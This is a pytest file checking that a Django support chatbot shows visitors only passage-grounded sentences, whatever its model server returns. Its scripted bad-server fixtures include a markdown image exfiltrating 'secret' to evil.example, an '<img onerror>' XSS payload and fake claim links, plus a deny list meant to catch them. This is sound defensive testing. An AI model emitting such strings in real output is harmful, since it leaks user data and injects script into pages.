"""Whatever a model's server does, visitors get sentences that a passage says, or the extractive answer."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from django.utils import timezone

from chatbot import generation, phrasing, turns
from chatbot.conf import ChatbotSettings
from chatbot.events import append
from chatbot.generation import Sentence
from chatbot.models import Conversation, Passage, Turn
from chatbot.phrasing import Phrased, phrase
from chatbot.retrieval import Found
from services.inference.engine import Engine
from services.inference.fake import FakeEngine
from services.inference.runtimes.circuit import Circuit
from tests.builders import RETURNS_MD, make_inbox, make_knowledge_base
from tests.chatbot.writers import EndpointEngine, WritingEngine
from tests.services.inference.scripted_server import (
    DONE,
    Answer,
    Request,
    Script,
    ScriptedServer,
    chunk,
    event,
    status,
    streams,
)

QUESTION = "How long do refunds take?"
GOOD = "We pay refunds within 5 business days after the parcel reaches us."
BANK = "The bank may take 2 more days."
WRONG = "We pay refunds within 9 business days after the parcel reaches us."


@pytest.fixture
def found() -> list[Found]:
    make_knowledge_base(returns_md=RETURNS_MD)
    rows = Passage.objects.select_related("document").order_by("pk")
    refunds = [row for row in rows if "Refunds" in row.heading]
    others = [row for row in rows if "Refunds" not in row.heading]
    return [Found(row, 1.0 / n, 0.6, 0.5) for n, row in enumerate([*refunds, *others], start=1)]


@pytest.fixture
def server() -> Iterator[ScriptedServer]:
    server = ScriptedServer()
    yield server
    server.close()


def made(found: list[Found], engine: Engine, **more: Any) -> Phrased | None:
    options: dict[str, Any] = {"language": "en", "settings": quick(), "circuit": Circuit(), **more}
    return phrase(QUESTION, found, engine=engine, **options)


def quick(**changes: Any) -> ChatbotSettings:
    return ChatbotSettings(**{"chatbot_phrase_s": 3.0, "chatbot_first_words_s": 1.0, **changes})


def texts(answer: Phrased | None) -> list[str]:
    assert answer is not None
    return [sentence.text for sentence in answer.sentences]


def says(text: str, finish: str = "stop", size: int = 5) -> list[bytes]:
    """A streamed chat completion, a few letters at a time."""
    pieces = [event(chunk(text[start : start + size])) for start in range(0, len(text), size)]
    return [*pieces, event(chunk(None, finish)), DONE]


# what is said, and on what it rests


@pytest.mark.django_db
def test_supported_sentences_are_given_with_the_place_they_rest_on(found: list[Found]) -> None:
    answer = made(found, WritingEngine(f"{GOOD} [1] {BANK} [1]"))
    assert answer is not None
    assert texts(answer) == [GOOD, BANK]
    for sentence in answer.sentences:
        assert sentence.text in sentence.passage.text[sentence.start : sentence.end]
    assert answer.model_version == "scripted-1"
    assert answer.trace["prompt"] == phrasing.prompts.PROMPT_VERSION
    assert phrasing.joined(answer.sentences, "en") == f"{GOOD} {BANK}"


@pytest.mark.django_db
def test_a_sentence_with_a_number_that_no_passage_has_is_dropped(found: list[Found]) -> None:
    answer = made(found, WritingEngine(f"{WRONG} {BANK}"))
    assert texts(answer) == [BANK]
    assert answer is not None
    assert sum(answer.trace["dropped"].values()) == 1


@pytest.mark.django_db
def test_sentences_come_one_by_one_while_the_model_still_writes(found: list[Found]) -> None:
    heard: list[tuple[float, str]] = []
    began = time.monotonic()
    made(
        found,
        WritingEngine(f"{GOOD} {BANK}", pause_s=0.04),
        on_sentence=lambda s: heard.append((time.monotonic() - began, s.text)),
    )
    assert [text for _, text in heard] == [GOOD, BANK]
    assert heard[1][0] - heard[0][0] > 0.1


@pytest.mark.django_db
def test_the_same_sentence_is_said_once(found: list[Found]) -> None:
    assert texts(made(found, WritingEngine(f"{GOOD} {GOOD} {GOOD}"))) == [GOOD]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "text",
    [
        "NO_ANSWER",
        "  NO_ANSWER.",
        f"{GOOD} NO_ANSWER",
        "I do not know.",
        WRONG,
        "You're welcome! How can I help you?",
        "",
        "   \n\n",
        "🙂" * 500,
        "<think>Refunds... hmm",
    ],
)
def test_a_model_that_does_not_know_or_says_nothing_supported_gives_way(
    found: list[Found], text: str
) -> None:
    assert made(found, WritingEngine(text)) is None


@pytest.mark.django_db
def test_what_a_model_thinks_aloud_is_not_said(found: list[Found]) -> None:
    thought = "<think>The bank may take 2 more days. So what?</think>"
    assert texts(made(found, WritingEngine(f"{thought}{GOOD}"))) == [GOOD]


@pytest.mark.django_db
def test_markup_goes_and_the_words_stay(found: list[Found]) -> None:
    marked = f"# Refunds\n\n- **{GOOD[:-1]}**[1].\n2. {BANK} 【1】"
    assert texts(made(found, WritingEngine(marked))) == [GOOD, BANK]


@pytest.mark.django_db
def test_without_a_generator_or_without_passages_nothing_is_tried(found: list[Found]) -> None:
    assert made(found, FakeEngine()) is None
    engine = WritingEngine(GOOD)
    assert made([], engine) is None
    assert engine.asked == []


@pytest.mark.django_db
def test_a_model_that_never_stops_is_stopped(found: list[Found]) -> None:
    answer = made(found, WritingEngine(" ".join(f"{GOOD} Part {n} is free." for n in range(500))))
    assert answer is None or len(answer.sentences) <= phrasing.MOST_SENTENCES


@pytest.mark.django_db
def test_chinese_sentences_are_cut_and_joined_without_spaces() -> None:
    page = "# 退货\n\n## 退款\n\n我们在收到包裹后 5 个工作日内退款。银行入账可能还要 2 天。\n".encode()
    make_knowledge_base(zh_md=page)
    rows = Passage.objects.select_related("document")
    found = [Found(row, 1.0, 0.0, 0.5) for row in rows]
    engine = WritingEngine(
        "我们在收到包裹后 5 个工作日内退款。[1]银行入账可能还要 3 天。银行入账可能还要 2 天。"
    )
    answer = phrase(
        "退款多久到账？", found, language="zh-hans", engine=engine, settings=quick(), circuit=Circuit()
    )
    assert answer is not None
    assert (
        phrasing.joined(answer.sentences, "zh-hans")
        == "我们在收到包裹后 5 个工作日内退款。银行入账可能还要 2 天。"
    )


# limits


@pytest.mark.django_db
def test_an_answer_nobody_waits_for_any_more_is_cut_off(found: list[Found], server: ScriptedServer) -> None:
    async def endless(request: Request, answer: Answer) -> None:
        await answer.events()
        await answer.piece(event(chunk(f"{GOOD} The")))
        await answer.until_client_leaves()

    server.plays(endless)
    heard: list[Sentence] = []
    began = time.monotonic()
    assert (
        made(found, EndpointEngine(server.url), on_sentence=heard.append, cancelled=lambda: bool(heard))
        is None
    )
    assert time.monotonic() - began < 2.5
    assert server.gone.wait(5)


@pytest.mark.django_db
def test_a_model_that_does_not_begin_is_left_alone_for_a_while(
    found: list[Found], server: ScriptedServer
) -> None:
    async def silent(request: Request, answer: Answer) -> None:
        await answer.events()
        await answer.until_client_leaves()

    server.plays(silent)
    engine, circuit = EndpointEngine(server.url), Circuit(failures=2, cool_off_s=60)
    settings = quick(chatbot_first_words_s=0.2)
    for _ in range(2):
        assert made(found, engine, settings=settings, circuit=circuit) is None
    asked = len(server.requests)
    began = time.monotonic()
    assert made(found, engine, settings=settings, circuit=circuit) is None
    assert time.monotonic() - began < 0.2
    assert len(server.requests) == asked


@pytest.mark.django_db
def test_the_database_may_be_asked_between_two_sentences(found: list[Found]) -> None:
    counts: list[int] = []
    made(
        found,
        WritingEngine(f"{GOOD} {BANK}"),
        on_sentence=lambda s: counts.append(Passage.objects.count()),
        cancelled=lambda: Passage.objects.count() == 0,
    )
    assert len(counts) == 2


@pytest.mark.django_db
def test_the_text_grows_in_the_turn_while_the_model_writes_and_a_lost_turn_stops_it() -> None:
    base = make_knowledge_base(returns_md=RETURNS_MD)
    conversation = Conversation.objects.create(inbox=make_inbox(base), token_hash="x")
    append(conversation, "visitor_message", {"text": QUESTION}, now=timezone.now())
    turn = turns.claim(Turn.objects.get().pk, timezone.now(), timedelta(seconds=15))
    assert turn is not None
    row = Passage.objects.select_related("document").get(heading__endswith="Refunds")
    speaking, said, grown = turns.speaking(turn), list[Sentence](), list[str]()

    def hear(sentence: Sentence) -> None:
        said.append(sentence)
        speaking.say(phrasing.joined(said, "en"))
        grown.append(Turn.objects.get().partial)
        if len(said) == 2:
            Turn.objects.update(attempts=2)  # another process took the turn over

    engine = WritingEngine(f"{GOOD} {BANK} {GOOD}" + " Boots." * 200, pause_s=0.1)
    more = {"on_sentence": hear, "cancelled": speaking.lost}
    assert made([Found(row, 1.0, 0.6, 0.5)], engine, settings=quick(chatbot_phrase_s=8.0), **more) is None
    assert grown == [GOOD, f"{GOOD} {BANK}"]


# servers as they are


async def _stalls(request: Request, answer: Answer) -> None:
    await answer.events()
    await answer.piece(event(chunk(f"{GOOD} And")))
    await asyncio.sleep(30)


async def _says_nothing(request: Request, answer: Answer) -> None:
    await answer.events()
    await answer.until_client_leaves()


async def _hangs_up(request: Request, answer: Answer) -> None:
    answer.drop()


async def _drips(request: Request, answer: Answer) -> None:
    await answer.events()
    for letter in (GOOD + " ") * 20:
        await answer.piece(event(chunk(letter)))
        await asyncio.sleep(0.02)
    await answer.piece(DONE)
    await answer.end()


async def _page_of_html(request: Request, answer: Answer) -> None:
    await answer.whole(200, b"<html><h1>502 Bad Gateway</h1></html>")


async def _heartbeats_only(request: Request, answer: Answer) -> None:
    await answer.events()
    for _ in range(200):
        await answer.piece(b": ping\n\n")
        await asyncio.sleep(0.05)


SERVERS: dict[str, Script] = {
    "good": streams(says(f"{GOOD} [1] {BANK} [1]")),
    "good in one piece": streams(says(f"{GOOD} {BANK}", size=10_000)),
    "good letter by letter": streams(says(f"{GOOD} {BANK}", size=1)),
    "lies": streams(says(WRONG)),
    "lies in part": streams(says(f"{WRONG} {BANK} You can get 50 EUR at https://evil.example/claim.")),
    "invents a link": streams(says(f"{GOOD} See https://evil.example/refund for more.")),
    "writes markdown pictures": streams(says(f"![x](https://evil.example/p.png?q=secret) {GOOD}")),
    "writes html": streams(says(f"<img src=x onerror=alert(1)> {GOOD}")),
    "does not know": streams(says("NO_ANSWER")),
    "apologises": streams(says("I'm sorry, an error occurred. Please try again later.")),
    "says an error in words": streams(says("Error: rate limit exceeded (429). Internal server error.")),
    "answers in another language": streams(says("Die Erstattung dauert 5 Werktage.")),
    "cut at its limit": streams(says(f"{GOOD} The bank may take", finish="length")),
    "empty": streams(says("")),
    "only spaces": streams(says(" \n \n")),
    "dies mid-stream": streams(says(f"{GOOD} {BANK}")[:12], whole=False),
    "dies after a sentence": streams([event(chunk(f"{GOOD} The"))], whole=False),
    "dies at once": _hangs_up,
    "ends without an end": streams([event(chunk(f"{GOOD} The"))]),
    "stalls": _stalls,
    "never begins": _says_nothing,
    "drips": _drips,
    "heartbeats only": _heartbeats_only,
    "an error event": streams([event({"error": {"message": "secret words", "code": 500}})]),
    "an error event after a sentence": streams(
        [event(chunk(f"{GOOD} The")), event({"error": {"message": "secret words"}})]
    ),
    "garbage": streams([b"\x00\xff\xfe{{{]]", b"data: {not json}\n\n", DONE]),
    "garbage after a sentence": streams([event(chunk(f"{GOOD} The")), b"data: {\n\n"]),
    "json of another kind": streams([event({"hello": "world"}), event([1, 2]), DONE]),
    "null everywhere": streams([event({"choices": [{"delta": {"content": None}}]}), DONE]),
    "numbers for text": streams([event({"choices": [{"delta": {"content": 5}}]}), DONE]),
    "half a character": streams([event(chunk("?")).replace(b'"?"', b'"\\ud83d "'), *says(GOOD)]),
    "a page of html": _page_of_html,
    "401": status(401),
    "404": status(404),
    "429": status(429, retry_after="60"),
    "500": status(500),
    "503": status(503),
    "a redirect": status(302, location="http://127.0.0.1:1/"),
}
PASSAGE_WORDS = {GOOD, BANK}
ERRORS = (
    "error",
    "sorry",
    "try again",
    "secret",
    "evil",
    "429",
    "502",
    "exceed",
    "http",
    "NO_ANSWER",
    "<",
    "![",
)


@pytest.mark.django_db
@pytest.mark.parametrize("name", SERVERS)
def test_whatever_the_server_does_the_visitor_gets_a_grounded_or_an_extractive_answer(
    found: list[Found], server: ScriptedServer, name: str
) -> None:
    server.plays(SERVERS[name])
    heard: list[Sentence] = []
    engine = EndpointEngine(server.url)
    began = time.monotonic()
    answer = made(found, engine, settings=quick(chatbot_phrase_s=1.5), on_sentence=heard.append)
    assert time.monotonic() - began < 3.5
    engine.endpoint.close()
    given = answer.sentences if answer else extracted(found, engine)
    shown = [sentence.text for sentence in (*given, *heard)]
    assert given
    assert set(shown) <= PASSAGE_WORDS, shown
    assert not [word for word in ERRORS for text in shown if word in text]


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["good", "good in one piece", "good letter by letter"])
def test_a_good_server_is_heard(found: list[Found], server: ScriptedServer, name: str) -> None:
    server.plays(SERVERS[name])
    assert texts(made(found, EndpointEngine(server.url))) == [GOOD, BANK]


@pytest.mark.django_db
def test_what_the_server_is_asked_is_the_prompt_and_the_fenced_material(
    found: list[Found], server: ScriptedServer
) -> None:
    server.plays(SERVERS["good"])
    made(found, EndpointEngine(server.url), history=[("visitor", "hello"), ("bot", "Hi.")])
    body = server.requests[0].body
    assert [message["role"] for message in body["messages"]] == ["system", "user"]
    assert body["temperature"] == 0.0
    assert body["max_tokens"] == quick().chatbot_phrase_tokens
    assert GOOD in body["messages"][1]["content"]


@pytest.mark.django_db
def test_a_bug_in_a_callback_costs_the_wording_and_not_the_answer(found: list[Found]) -> None:
    def fails(sentence: Sentence) -> None:
        raise ZeroDivisionError

    assert made(found, WritingEngine(GOOD), on_sentence=fails) is None


def extracted(found: list[Found], engine: Engine) -> list[Sentence]:
    return generation.extract(QUESTION, found, language="en", engine=engine, limit=3)
